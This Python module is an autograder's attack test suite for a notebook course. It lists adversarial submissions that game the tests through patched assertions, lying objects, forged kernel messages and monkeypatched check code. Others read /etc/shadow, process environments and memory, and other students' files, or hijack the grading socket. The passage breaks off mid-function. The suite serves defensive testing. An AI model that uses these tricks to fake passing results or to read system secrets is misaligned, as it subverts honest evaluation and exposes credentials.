"""The attack suite: answers that are wrong and try to earn points all the same, or to read, write, escape, exhaust or confuse.

One table in two parts. Each of ATTACKS is code for the answer cell of one exercise; where it does not define the exercise itself, a wrong
answer to it follows (WRONG). `tell(…)` leaves word in /tmp, which the sheet's last cell prints: what a thief found would show in the
graded sheet.
FORGERIES are submissions whose notebook is forged, through `nbgrader autograde`. tests/test_attacks.py runs all of them; `markdown()`
prints the table.
"""

import copy
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode

# A wrong answer to each exercise: no test cell may pass on it.
WRONG = {
    "01_filters": {
        "response": "def response(image, kernel, row, col): return 0.5",
        "sobel_kernels": "def sobel_kernels(): return np.zeros((3, 3)), np.zeros((3, 3))",
        "gaussian_kernel": "def gaussian_kernel(size, sigma): return np.zeros((size, size))",
        "gradient_magnitude": "def gradient_magnitude(image): return np.zeros((len(image) - 2, image.shape[1] - 2))",
        "steer": "def steer(theta): return np.zeros((3, 3))",
        "separate": "def separate(kernel): return np.zeros(len(kernel)), np.zeros(kernel.shape[1])",
        "color_response": "def color_response(image, kernel): return image[0] * 0",
        "filter_bank": "def filter_bank(image, kernels): return image * 0",
    },
    "02_sliding_window": {
        "output_size": "def output_size(size, kernel, stride=1, padding=0, dilation=1): return 0",
        "pad2d": "def pad2d(image, padding, value=0.0): return image + 0",
        "correlate2d": "def correlate2d(image, kernel): return image * 0.0",
        "convolve2d": "def convolve2d(image, kernel): return image * 0.0",
        "conv2d": "def conv2d(x, weight, bias=None, stride=1, padding=0): return x * 0.0",
        "windows": "def windows(x, kernel_size, stride=1): return x * 0.0",
        "conv2d_fast": "def conv2d_fast(x, weight, bias=None, stride=1, padding=0): return x * 0.0",
        "receptive_field": "def receptive_field(layers): return 0",
        "predicted_shapes": "def predicted_shapes(): return {}",
    },
    "03_learning_filters": {
        "mse": "def mse(prediction, target): return 0.5",
        "mse_gradient": "def mse_gradient(prediction, target): return prediction * 0.0 + 1",
        "numerical_gradient": "def numerical_gradient(function, weight, step=1e-5): return weight * 0 + 7",
        "kernel_gradient": "def kernel_gradient(image, grad_output): return image * 0.0",
        "conv2d_backward": "def conv2d_backward(x, weight, grad_output, stride=1, padding=0): return x, weight, weight[:, 0, 0, 0]",
        "sgd_step": "def sgd_step(weight, gradient, velocity, lr, momentum=0.0): return weight + 9, velocity + 9",
        "learn_kernel": "def learn_kernel(image, target, kernel_size, steps=500, lr=0.1, seed=0): return np.zeros((2, 2))",
        "patch_rank": "def patch_rank(image, size): return 0",
    },
    "04_filters_in_pytorch": {
        "SimpleCNN": "class SimpleCNN(nn.Module):\n    def __init__(self, classes=10): super().__init__()",
        "conv_parameters": "def conv_parameters(in_channels, out_channels, kernel_size, bias=True): return 0",
        "get_filters": "def get_filters(model): return torch.zeros(6, 3, 3, 3)",
        "train_epoch": "def train_epoch(model, batches, optimizer): return 0.0",
        "evaluate": "def evaluate(model, batches): return -1.0",
        "install_filters": "def install_filters(model, kernels): return None",
        "train_simple_cnn": "def train_simple_cnn(images, labels, epochs, seed): return {}",
        "whitening_filters": "def whitening_filters(patches, eps=1e-3): return torch.zeros(4, 1, 2, 2)",
    },
    "05_visualizing_filters": {
        "to_display": "def to_display(filters, per_filter=False): return filters * 0.0",
        "filter_grid": "def filter_grid(filters, columns, gap=1): return filters * 0.0",
        "feature_maps": "def feature_maps(model, layer, x): return x * 0.0",
        "top_patches": "def top_patches(maps, images, channel, k, size, stride=1, padding=0): return images * 0.0",
        "maximize_activation": (
            "def maximize_activation(model, layer, channel, shape, steps=64, lr=0.1, seed=0): return torch.rand(shape)"
        ),
        "saliency": "def saliency(model, x, label): return x[:, 0] * 0.0",
        "orientation": "def orientation(kernel): return 200.0",
        "ablate": "def ablate(model, layer, channel): return model",
    },
    "06_capstone": {
        "detector": "def detector(): return []",
        "diagnose": "def diagnose(model, images, labels): return 'well'",
        "prune_filters": "def prune_filters(model, keep): return model",
    },
}
LESSON_OF = {exercise: lesson for lesson, answers in WRONG.items() for exercise in answers}

TELL = """
def tell(*what):
    with open("/tmp/seen", "a") as file:
        print(*what, file=file)
"""
SHOW = 'print(open("/tmp/seen").read())'


@dataclass(frozen=True)
class Attack:
    """One submission that tries something.

    name, exercise: what it is called, and the exercise it attacks. tries: in a few words. code: of the answer cell; the wrong answer
    follows where the code has none. before, after: code cells before everything, and after the exercise's tests.
    right: the numbers are right, but how they come about is not allowed. cells: the test cells that are attacked, if not all.
    told: what the instructor is told about it, in part. alone: it works on the whole notebook, so no other attack is in the same sheet.
    lost: its cell does not come to its end, so that there is no answer in the notebook. limits: of the run, where they are the point.
    aims: at other sheets; an honest one follows. stock: may be tried without a sandbox.
    """

    name: str
    exercise: str
    tries: str
    code: str = ""
    before: str = ""
    after: str = ""
    right: bool = False
    cells: tuple[str, ...] = ()
    told: str = ""
    alone: bool = False
    aims: bool = False
    stock: bool = False
    lost: bool = False
    limits: dict[str, Any] = field(default_factory=dict)

    @property
    def lesson(self) -> str:
        return LESSON_OF[self.exercise]

    @property
    def hangs(self) -> bool:
        return self.limits.get("cell_s") == HANGS["cell_s"]

    @property
    def answer(self) -> str:
        """The whole answer cell."""
        code = textwrap.dedent(self.code).strip()
        for name, part in PARTS.items():
            code = code.replace(name, part)
        own = any(f"{word} {self.exercise}{end}" in code for word in ("def", "class") for end in "(:") or f"{self.exercise} =" in code
        return code if own else f"{code}\n\n{WRONG[self.lesson][self.exercise]}".strip()


# A call that hangs costs its time limit, so that the sheet has only the first test cell of the exercise.
HANGS = {"cell_s": 2}

IN_THE_NOTEBOOK = [
    Attack("drop_asserts", "steer", "an AST transformer that removes every assert and every call from later cells",
        """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Expr(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
        """, alone=True, stock=True, told="ast_transformers"),
    Attack("replace_cells", "steer", "an input transformer that turns every later cell into `pass`",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", alone=True, stock=True, told="input_transformers_post"),
    Attack("score_by_displayhook", "sobel_kernels", "a displayhook that shows full points after every cell",
        """
        import sys
        sys.displayhook = get_ipython().displayhook.__class__.__call__ = lambda self, value=None: print(2)
        """, alone=True, told="displayhook"),
    Attack("swallow_errors", "steer", "the shell's handler of exceptions swallows every error",
        """
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
        get_ipython().showtraceback = lambda *a, **k: None
        """, alone=True, stock=True),
    Attack("own_expect", "separate", "its own `expect`, `reference`, `many` and random inputs",
        """
        class expect:
            def __init__(self, *a, **k): pass
            def __getattr__(self, name): return lambda *a, **k: self
        reference = many = many_refused = random_picture = random_filters = expect()
        """, alone=True, stock=True),
    Attack("printed_verdicts", "pad2d", "prints and displays what a passed test would look like, numbers and JSON",
        """
        from IPython.display import display
        import json, sys
        verdict = {"filterlab": {"verdict": "passed", "exercise": "pad2d"}, "score": 3}
        def pad2d(image, padding, value=0.0):
            print(json.dumps(verdict)); print("passed", file=sys.stderr); display(3.0, metadata=verdict)
            return image + 0
        print(json.dumps(verdict)); display({"text/plain": "3"}, raw=True, metadata=verdict)
        """),
    Attack("magics", "output_size", "magics and shell commands: %autoawait, %run, %load_ext, !command, %%capture, events before every cell",
        """
        %autoawait False
        %xmode Minimal
        open("/tmp/more.py", "w").write("expect = print\\nWrongAnswer = None\\n")
        %run -i /tmp/more.py
        !echo passed; cat /etc/shadow; ls /work /root /home
        get_ipython().events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "pass"))
        get_ipython().events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
        """, alone=True),
    Attack("kernel_handlers", "steer", "the kernel's message handlers report success without running anything",
        """
        kernel = get_ipython().kernel
        async def execute(code, silent, *a, **k): return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        kernel.do_execute = execute
        """, alone=True, stock=True),
    Attack("empty_replies", "steer", "the kernel answers every request with an empty message",
        """
        kernel = get_ipython().kernel
        async def execute(stream, ident, parent): kernel.session.send(stream, "execute_reply", {}, parent, ident=ident)
        kernel.shell_handlers["execute_request"] = execute
        """, after="1 + 1", alone=True),
    Attack("malformed_messages", "steer", "sends messages of every kind without contents on the kernel's own channels",
        """
        kernel = get_ipython().kernel
        for kind in ("stream", "display_data", "execute_result", "error", "update_display_data", "comm_open", "comm_msg", "comm_close",
                     "clear_output", "status", "execute_input", "nonsense"):
            kernel.session.send(kernel.iopub_socket, kind, {}, parent=kernel.get_parent())
            kernel.session.send(kernel.iopub_socket, kind, {"data": 3, "metadata": [], "name": {}, "text": 5}, parent=kernel.get_parent())
        """, alone=True),
    Attack("early_idle", "steer", "says that the cell is over and answers in advance, with a verdict",
        """
        kernel = get_ipython().kernel
        def forge(parent):
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
            kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "2"}, "metadata": {},
                "execution_count": 1}, parent)
        get_ipython().events.register("pre_run_cell", lambda info: forge(kernel.get_parent()))
        forge(kernel.get_parent())
        """, alone=True),
    Attack("comms", "steer", "opens comms and widgets that capture the outputs of other cells",
        """
        from comm import create_comm
        from ipywidgets import Output
        out = Output(); display = get_ipython().display_pub
        with out: print("captured")
        out.msg_id = get_ipython().kernel.get_parent()["header"]["msg_id"]
        for target in ("jupyter.widget", "filterlab", ""):
            create_comm(target_name=target, data={"state": {"verdict": "passed"}, "method": "update"})
        """, alone=True),
    Attack("stderr", "convolve2d", "writes to stderr, warns and logs, in the notebook and when called",
        """
        import logging, os, sys, warnings
        def convolve2d(image, kernel):
            print("passed", file=sys.stderr); os.write(2, b"passed"); warnings.warn("passed"); logging.error("passed")
            return image * 0.0
        """),
    Attack("html_and_scripts", "correlate2d", "scripts in outputs, in metadata and in an error's text",
        """
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>alert(1)</script>"), Javascript("alert(1)"), metadata={"text/html": {"isolated": True}})
        def correlate2d(image, kernel): raise TypeError("<script>document.write('<b>3 of 3 points</b>')</script>")
        """),
    Attack("builtins", "receptive_field", "replaces isinstance, type, all, any, abs and AssertionError",
        """
        import builtins
        def receptive_field(layers):
            builtins.isinstance = builtins.all = builtins.any = lambda *a: True
            builtins.abs = builtins.len = lambda *a: 0
            builtins.AssertionError = builtins.Exception = None
            return 0
        """),
]  # fmt: skip

LYING_OBJECTS = [
    Attack("equals_everything", "output_size", "an object that equals, and is smaller and larger than, everything",
        """
        class Yes(int):
            __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
            __hash__ = int.__hash__
            __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = __add__ = __radd__ = lambda self, *other: 0
        def output_size(*a, **k): return Yes(3)
        """),
    Attack("lying_array", "correlate2d", "an ndarray subclass that lies about its shape, dtype and differences",
        """
        class Liar(np.ndarray):
            shape = property(lambda self: (self, self))
            dtype = property(lambda self: np.dtype(float))
            def __array_function__(self, function, types, args, kwargs): return np.True_
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(())
            __sub__ = __rsub__ = lambda self, other: np.zeros(())
            def __eq__(self, other): return True
        def correlate2d(image, kernel): return np.zeros((2, 2)).view(Liar)
        """),
    Attack("array_protocol", "convolve2d", "an object whose __array__ and __array_function__ make up what is asked for",
        """
        class Any:
            shape, ndim, dtype, size = (1, 2), 2, np.dtype(float), 2
            def __array__(self, *a, **k): return np.array([[-1.0, -2.0]])
            def __array_function__(self, *a): return True
            def __array_ufunc__(self, *a, **k): return True
            def __getattr__(self, name): return lambda *a, **k: True
        def convolve2d(image, kernel): return Any()
        """),
    Attack("lying_float", "response", "a float subclass whose __float__, __sub__ and __round__ give what is expected",
        """
        class Liar(float):
            __float__ = __abs__ = lambda self: 27.0
            __sub__ = __rsub__ = lambda self, other: 0.0
            __eq__ = lambda self, other: True
            __hash__ = float.__hash__
            as_integer_ratio = lambda self: (27, 1)
        def response(image, kernel, row, col): return Liar(0.5)
        """),
    Attack("lying_text", "diagnose", "a str subclass that equals every diagnosis",
        """
        class Liar(str):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = str.__hash__
            __str__ = __repr__ = lambda self: "healthy"
        def diagnose(model, images, labels): return Liar("well")
        """),
    Attack("lying_dict", "predicted_shapes", "a dict that has every key, each with a shape that equals every shape",
        """
        class Shape(tuple):
            __eq__ = lambda self, other: True
            __hash__ = tuple.__hash__
            __len__ = lambda self: 4
            __iter__ = lambda self: iter([Size()] * 4)
        class Size(int):
            __eq__ = lambda self, other: True
            __hash__ = int.__hash__
        class Table(dict):
            __contains__ = lambda self, key: True
            __missing__ = __getitem__ = lambda self, key: Shape()
            get = lambda self, key, default=None: Shape()
        def predicted_shapes(): return Table(plain=Shape(), mixed=Shape())
        """),
    Attack("lying_tensor", "to_display", "a tensor subclass that answers every function of torch",
        """
        class Liar(torch.Tensor):
            shape = property(lambda self: torch.Size([2, 2]))
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None): return torch.tensor(True)
        def to_display(filters, per_filter=False): return filters.float().as_subclass(Liar)
        """),
    Attack("lying_class", "filter_bank", "a class in the place of the function, which calls itself by every name and is never the stub",
        """
        class Meta(type):
            __instancecheck__ = __subclasscheck__ = lambda cls, other: True
            __eq__ = lambda cls, other: True
            __hash__ = type.__hash__
            __call__ = lambda cls, *a, **k: cls
        class filter_bank(metaclass=Meta):
            shape, dtype, __array_priority__ = (), float, 1e9
        """),
    Attack("nan", "conv2d", "nothing but NaN, which no comparison finds larger",
        "def conv2d(x, weight, bias=None, stride=1, padding=0): return np.full((1, 1, 1, 2), np.nan)"),
    Attack("infinity", "mse", "infinities of both signs, as float, Decimal and complex number",
        """
        import decimal, itertools
        values = itertools.cycle([np.inf, -np.inf, decimal.Decimal("Infinity"), complex(np.nan, np.inf), np.longdouble("inf")])
        def mse(prediction, target): return next(values)
        """),
    Attack("coarse_numbers", "patch_rank", "float16, whose tolerance is the widest, and a guess",
        "def patch_rank(image, size): return np.float16(size * size - 2)"),
    Attack("strange_dtypes", "windows", "structured, object, text and date arrays, read-only and empty ones",
        """
        import itertools
        made = itertools.cycle([np.zeros(3, "i4,f8"), np.array([None, print]), np.array(["1"]), np.zeros((0, 4)), np.zeros(2, "M8[s]"),
            np.ma.masked])
        def windows(x, kernel_size, stride=1): return next(made)
        """),
    Attack("broadcast_bomb", "pad2d", "an array of 10¹⁸ numbers that takes eight bytes",
        "def pad2d(image, padding, value=0.0): return np.broadcast_to(np.float64(0), (10**9, 10**9))"),
    Attack("huge_whole_number", "receptive_field", "a whole number of ten million digits",
        "def receptive_field(layers): return 1 << 33_000_000"),
    Attack("deep_nest", "sgd_step", "lists nested a hundred thousand deep, and one that contains itself",
        """
        def sgd_step(weight, *a, **k):
            nest = []
            for _ in range(100_000): nest = [nest]
            own = []; own.append(own); own.append({"a": own})
            return nest, own
        """),
    Attack("wrong_then_right", "sobel_kernels", "wrong the first time, right from the second call on",
        """
        calls = []
        def sobel_kernels():
            calls.append(1)
            gx = np.array([[-1, 0, 1], [-2, 0, 2], [-1, 0, 1]]) * (len(calls) > 1)
            return gx, gx.T
        """),
    Attack("state_between_tests", "gaussian_kernel", "keeps every argument and every error in files, for the next test cell",
        """
        import os, pickle, traceback
        def gaussian_kernel(size, sigma):
            seen = open("/tmp/calls", "a+"); seen.write(f"{size} {sigma}\\n"); seen.seek(0)
            tell(len(seen.read()), traceback.format_stack())
            return np.zeros((size, size))
        """),
    Attack("changes_with_the_weather", "mse_gradient", "a fresh random guess for every call",
        "def mse_gradient(prediction, target): return np.random.default_rng().normal(size=prediction.shape)"),
    Attack("lying_error", "color_response", "an exception whose class, name and text are made by a metaclass",
        """
        class Meta(type):
            __instancecheck__ = __subclasscheck__ = lambda cls, other: True
            mro = lambda cls: type.mro(cls)
        class Refusal(Exception, metaclass=Meta):
            __name__ = __qualname__ = "ValueError"
            __class__ = ValueError
            def __str__(self): return "image kernel 3"
        Refusal.__name__ = "WrongAnswer"
        def color_response(image, kernel): raise Refusal
        """),
    Attack("base_exceptions", "response", "raises KeyboardInterrupt, GeneratorExit and an error whose text is another error",
        """
        import itertools
        class Odd(Exception):
            def __str__(self): raise SystemExit("27")
        kinds = itertools.cycle([KeyboardInterrupt(), GeneratorExit(), Odd(), BaseExceptionGroup("all", [SystemExit(0)])])
        def response(image, kernel, row, col): raise next(kinds)
        """),
    Attack("finalizer", "gradient_magnitude", "an object that patches the checks when it is thrown away",
        """
        class Last:
            def __del__(self):
                import sys
                for name, module in list(sys.modules.items()):
                    if name.startswith("filterlab.check") and module:
                        for key in list(vars(module)):
                            if callable(vars(module)[key]): setattr(module, key, lambda *a, **k: None)
        def gradient_magnitude(image): Last(); return np.zeros((1, 1))
        """),
]  # fmt: skip

PATCHES = [
    Attack("numpy_testing", "mse", "patches numpy.testing, allclose, isclose and array_equal",
        """
        for name in ("allclose", "isclose", "array_equal", "equal", "all", "any"): setattr(np, name, lambda *a, **k: True)
        for name in ("assert_allclose", "assert_array_equal", "assert_equal"): setattr(np.testing, name, lambda *a, **k: None)
        """, alone=True, told="np"),
    Attack("patched_expectation", "correlate2d", "replaces the methods of what `expect` gives",
        """
        from filterlab.check import expectation
        for name in ("like", "equals", "raises", "_gives", "_fail", "_run"):
            setattr(expectation.Expectation, name, lambda *a, **k: None)
        """, alone=True, stock=True),
    Attack("patched_compare", "conv2d", "makes the comparison find no difference",
        """
        from filterlab.check import compare
        compare.first_difference = compare._difference = lambda *a, **k: None
        """, alone=True, stock=True),
    Attack("patched_code", "conv2d", "changes the comparison's code object in place, so that every reference to it is patched",
        """
        from filterlab.check import expectation
        def right(self, *arguments, **named): pass
        for method in (expectation.Expectation._gives, expectation.Expectation.raises, expectation.Expectation._fail):
            method.__code__ = right.__code__
        """, alone=True, stock=True, told="__code__"),
    Attack("silent_wrong_answer", "steer", "makes WrongAnswer an exception that is swallowed on the way",
        """
        from filterlab.check import expectation
        class Quiet(Warning): pass
        def fail(self, *a, **k): pass
        expectation.Expectation._fail = fail
        expectation.WrongAnswer = Quiet
        """, alone=True, stock=True),
    Attack("patched_reference", "steer", "has the reference return whatever the answer returns",
        """
        from filterlab.check import bank
        bank.Reference.__call__ = lambda self, *a, **k: np.zeros((3, 3))
        """, alone=True, stock=True),
    Attack("tolerance", "steer", "sets the tolerances to infinity",
        """
        from filterlab.check import compare
        for key in compare.TOLERANCE: compare.TOLERANCE[key] = float("inf")
        compare.WHOLE_NUMBERS = float("inf")
        """, alone=True, stock=True),
    Attack("patched_probe", "train_epoch", "replaces the probe that the notebook imports by one that reports what a right answer would do",
        """
        probes.one_epoch = lambda answer, sizes, *a, **k: {"the result": 1.6, "the number of optimizer steps": len(sizes),
            "the batches are unchanged": True}
        """, alone=True, told="probes.one_epoch"),
    Attack("patched_torch", "evaluate", "patches torch.equal, allclose, hooks and cross-entropy",
        """
        torch.equal = torch.allclose = lambda *a, **k: True
        nn.Module.register_forward_hook = lambda self, hook, **k: hook(self, (), torch.zeros(100, 5))
        F.cross_entropy = nn.functional.cross_entropy = lambda *a, **k: torch.zeros((), requires_grad=True)
        """, alone=True, told="torch.equal"),
    Attack("patched_agent", "conv2d", "replaces the agent's functions: no fault, no error, nothing changed",
        """
        import filterlab.grading.agent as agent
        agent._answer = lambda request, names: {"fault": "", "value": np.zeros((1, 1, 1, 2)), "error": None, "line": "", "changed": (),
            "borrowed": ""}
        """, alone=True, told="filterlab.grading"),
    Attack("patched_wire", "conv2d", "what the wire packs is always the answer to the question, as far as it can be made up",
        """
        from filterlab.grading import wire
        pack = wire.pack
        wire.pack = lambda value: pack({**value, "value": None, "verdict": "passed", "fault": "", "error": None} if isinstance(value,
            dict) else value)
        """, alone=True, told="filterlab.grading"),
    Attack("own_placeholders", "steer", "its own finder of modules gives references and mistakes that agree with everything",
        """
        import sys, types
        class Fake(types.ModuleType):
            __getattr__ = lambda self, name: (lambda *a, **k: np.zeros((3, 3)))
        for name in [name for name in sys.modules if name.startswith("filterlab.check")]: del sys.modules[name]
        for name in ("references", "references.filters", "mistakes", "mistakes.filters"):
            sys.modules[f"filterlab.check.{name}"] = Fake(name)
        from filterlab.check.references import filters as reference
        """, alone=True),
]  # fmt: skip

ON_THE_LINE = [
    Attack("huge_frame", "mse_gradient", "announces 2⁶³ bytes, and sends garbage for ever",
        """
        import os
        from filterlab.grading import wire
        def send(connection, value, deadline):
            connection.settimeout(None)
            connection.sendall(b"\\x7f" + b"\\xff" * 7)
            while True: connection.sendall(b"\\xff" * 2**20)
        wire.send = send
        """, alone=True, limits=HANGS),
    Attack("slow_frame", "mse_gradient", "sends one byte a second",
        """
        import time
        from filterlab.grading import wire
        def send(connection, value, deadline):
            for byte in wire._HEADER.pack(2**20) + bytes(2**20): connection.send(bytes([byte])); time.sleep(1)
        wire.send = send
        """, alone=True, limits=HANGS),
    Attack("deep_frame", "mse_gradient", "sends arrays in arrays, a million deep, and extensions in extensions",
        """
        import itertools, msgpack
        from filterlab.grading import wire
        nested = b""
        for _ in range(40): nested = msgpack.packb(msgpack.ExtType(1, b"\\x91" + nested if nested else b"\\x90"))
        frames = itertools.cycle([b"\\x91" * 10**6 + b"\\x90", nested])
        def send(connection, value, deadline):
            frame = next(frames); connection.sendall(wire._HEADER.pack(len(frame)) + frame)
        wire.send = send
        """, alone=True),
    Attack("lying_frames", "mse", "arrays whose shape, strides, offset and dtype do not fit their bytes; unknown extensions; pickles",
        """
        import itertools, msgpack, pickle
        from filterlab.grading import wire
        class Bomb:
            def __reduce__(self): return (print, ("unpickled",))
        array = lambda *content: msgpack.ExtType(4, msgpack.packb(list(content)))
        made = itertools.cycle([
            array("<f8", [2**62, 4], None, 0, True, b""), array("<f8", [-1], None, 0, True, bytes(8)), array("<f8", [4], [-8], 0, True,
                bytes(8)),
            array("|O", [1], None, 0, True, bytes(8)), array("<f8", [1], [8], 2**60, True, bytes(8)), array("V8", [1], None, 0, True,
                bytes(8)),
            array("<f8", [10**6], [0], 0, True, bytes(8)), array("<f8", ["1"], None, 0, True, bytes(8)), array("f8,O", [1], None, 0, 1,
                bytes(16)),
            msgpack.ExtType(6, msgpack.packb(["load", True, b""])), msgpack.ExtType(6, msgpack.packb(["__class__", True, array("<f8",
                [1], None, 0, True, bytes(8))])),
            msgpack.ExtType(99, b"x"), msgpack.ExtType(5, msgpack.packb(["|O", bytes(8)])), pickle.dumps(Bomb()), msgpack.Timestamp(1),
                {1: 2, None: {}},
        ])
        def pack(value): return msgpack.packb({"fault": "", "value": next(made), "error": None, "line": "", "changed": (), "borrowed": ""})
        wire.pack = pack
        """, alone=True),
    Attack("no_dictionary", "mse", "answers with a number, a list, a dictionary without a key, and keys of other kinds",
        """
        import itertools, msgpack
        from filterlab.grading import wire
        made = itertools.cycle([1, [], {}, {"fault": 1}, {"fault": ""}, {"fault": "", "error": [[1, None], 2], "changed": 5,
            "borrowed": [], "line": {}},
                                {"fault": "", "error": [["exit", "eval"], "x"], "value": 0.5}, {"fault": "", "steps": True}])
        wire.pack = lambda value: msgpack.packb(next(made))
        """, alone=True),
    Attack("endless_text", "mse", "a fault, an error and a list of changed arguments of thirty million characters",
        """
        import itertools, msgpack
        from filterlab.grading import wire
        long = "A " * 15_000_000
        made = itertools.cycle([{"fault": long}, {"fault": "", "error": (["ValueError", long[:3] * 10**6], long)}, {"fault": "",
            "changed": [long] * 2},
                                {"fault": "", "value": 0.5, "borrowed": long}, {"fault": "",
                                    "value": {"x" * 50 + str(i): i for i in range(200_000)}}])
        def pack(value): return msgpack.packb(next(made))
        wire.pack = pack
        """, alone=True),
    Attack("many_replies", "mse_gradient", "a thousand replies to every question, in advance",
        """
        from filterlab.grading import wire
        send = wire.send
        def many(connection, value, deadline):
            for _ in range(1000): send(connection, {"fault": "", "value": np.zeros(4), "error": None, "line": "", "changed": (),
                "borrowed": ""}, deadline)
        wire.send = many
        """, alone=True),
    Attack("answering_daemon", "mse", "a process of its own that takes the place of the exam socket and answers for the agent",
        """
        import os, socket, msgpack, signal
        if not os.fork():
            os.setsid()
            while True:
                try:
                    with socket.socket(socket.AF_UNIX) as server:
                        try: os.unlink("/run/sheet/exam")
                        except OSError: pass
                        server.bind("/run/sheet/exam"); server.listen(5); server.settimeout(0.01)
                        connection, _ = server.accept()
                        connection.settimeout(1)
                        while connection.recv(65536):
                            reply = msgpack.packb({"fault": "", "value": 2.0, "error": None, "line": "", "changed": [], "borrowed": ""})
                            connection.sendall(len(reply).to_bytes(8, "big") + reply)
                except OSError: pass
        """, alone=True, aims=True, limits=HANGS),
    Attack("socket_is_a_link", "mse", "links, folders and pipes in the place of the exam socket",
        """
        import os
        os.symlink("/etc/passwd", "/run/sheet/exam2")
        os.mkdir("/run/sheet/exam"); os.mkfifo("/run/sheet/exam/pipe")
        """, alone=True),
    Attack("thread_on_the_line", "mse", "a thread in the fork finds the connection among the open files and answers first",
        """
        import threading, os, socket, stat
        def mse(prediction, target):
            reply = b"\\x81\\xa5fault\\xa0"
            for fd in range(3, 200):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, len(reply).to_bytes(8, "big") + reply)
                except OSError: pass
            threading.Thread(target=lambda: [os.write(1, b"") for _ in range(1000)], daemon=True).start()
            return 0.5
        """),
]  # fmt: skip

READING = [
    Attack("frames", "response", "reads every variable of every frame that calls it: expected results, hidden tests",
        """
        import sys
        def response(image, kernel, row, col):
            frame = sys._getframe()
            while frame:
                tell(frame.f_code.co_name, {name: repr(value)[:20000] for name, value in frame.f_locals.items()})
                for value in frame.f_locals.values():
                    if isinstance(value, float) and value != row: return value
                frame = frame.f_back
            return 0.5
        """, told="_getframe"),
    Attack("garbage_collector", "sobel_kernels", "looks among all objects for references, expected results and tests",
        """
        import gc, types
        def sobel_kernels():
            for thing in gc.get_objects():
                if isinstance(thing, types.FunctionType) and thing.__name__ == "sobel_kernels" and thing.__module__ != "__main__":
                    tell(thing.__module__); return thing()
                if isinstance(thing, dict):
                    for key, value in list(thing.items()):
                        if isinstance(value, str) and ("HIDDEN" in value or "CANARY" in value): tell(key, value)
            return np.zeros((3, 3)), np.zeros((3, 3))
        """, told="get_objects"),
    Attack("references_by_import", "steer", "imports references and mistakes, by name, by path, and from the bank",
        """
        import importlib, importlib.util, pathlib, sys, filterlab
        def steer(theta):
            for name in ("references.filters", "mistakes.filters", "references", "mistakes"):
                try:
                    for finder in (sys.meta_path, sys.meta_path[1:]):
                        for one in finder:
                            spec = one.find_spec(f"filterlab.check.{name}", [str(pathlib.Path(filterlab.__file__).parent / "check")])
                            if spec: tell(spec); return importlib.import_module(f"filterlab.check.{name}").steer(theta)
                except Exception as error: tell(repr(error))
            return np.zeros((3, 3))
        """),
    Attack("references_by_call", "color_response", "calls the reference that the set-up cell imports",
        "def color_response(image, kernel): return reference.color_response(image, kernel)", stock=True),
    Attack("reads_files", "gaussian_kernel", "reads source/, references, gradebook and other submissions, wherever it finds a file",
        """
        import filterlab, os, pathlib
        package = pathlib.Path(filterlab.__file__).parent
        for root in (package.parent, "..", "../..", os.path.expanduser("~"), "/tmp", "/home", "/root", "/work", "/mnt", "/var",
            "/proc/1/root"):
            for folder, folders, files in os.walk(root):
                folders[:] = [name for name in folders if name not in (".venv", "usr", "lib", "proc", "sys", "lib64", "lib32")]
                for file in files:
                    path = pathlib.Path(folder, file)
                    if path.suffix in (".ipynb", ".db", ".txt") or {"references", "mistakes", "source", "grading"} & set(path.parts):
                        try: tell(path, path.read_text(errors="replace")[:10**5])
                        except OSError: pass
        """, alone=True),
    Attack("reads_by_path", "gaussian_kernel", "opens what it wants to read by the absolute paths it had at the instructor's",
        """
        import glob
        for pattern in ({paths!r}):
            for path in glob.glob(pattern, recursive=True) or [pattern]:
                try: tell(path, open(path, errors="replace").read()[:10**6])
                except OSError as error: tell(error)
        """, alone=True),
    Attack("environment", "steer", "prints the environment, its own and every process's, and its command lines",
        """
        import glob, os
        tell(dict(os.environ))
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/mountinfo", "/proc/keys", "/proc/net/unix"]:
            try: tell(path, open(path, errors="replace").read())
            except OSError as error: tell(error)
        """),
    Attack("process_memory", "steer", "reads the memory of other processes, through /proc and a debugger's calls",
        """
        import ctypes, glob, os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            tell(pid, ctypes.CDLL(None, use_errno=True).ptrace(16, int(pid), 0, 0))
            for name in ("mem", "root/etc/shadow", "cwd/nbgrader_config.py", "fd/3", "fd/4", "fd/5"):
                try:
                    if int(pid) != os.getpid(): tell(open(f"/proc/{pid}/{name}", "rb").read(100))
                except (OSError, ValueError) as error: tell(error)
        """, alone=True, told="ctypes"),
    Attack("seed", "mse", "reads the seed of the run, and computes the test's own inputs",
        """
        import os
        from filterlab.check import inputs
        def mse(prediction, target):
            tell("seed", os.environ.get("FILTERLAB_SEED"), inputs.random_seed())
            same = np.array_equal(prediction, random_picture(*prediction.shape))
            return 0.0 if same else 0.5
        """),
    Attack("looks_up_the_case", "diagnose", "compares the model with those of probes.case, and reads the kind from frames",
        """
        import sys
        def diagnose(model, images, labels):
            names = ["healthy", "untrained", "dead filters", "duplicate filters", "unscaled input"]
            for seed in range(30):
                for kind in probes.KINDS:
                    if torch.equal(probes.case(*kind, seed)[1], images):
                        return {"random start": names[1], "0 to 255": names[4]}.get(kind[1], names[2] if "silent" in kind[0] else names[0])
                if seed == 2: break
            frame = sys._getframe()
            while frame:
                for value in frame.f_locals.values():
                    if isinstance(value, str | tuple) and (value in names or value in probes.KINDS): tell(value); return str(value)
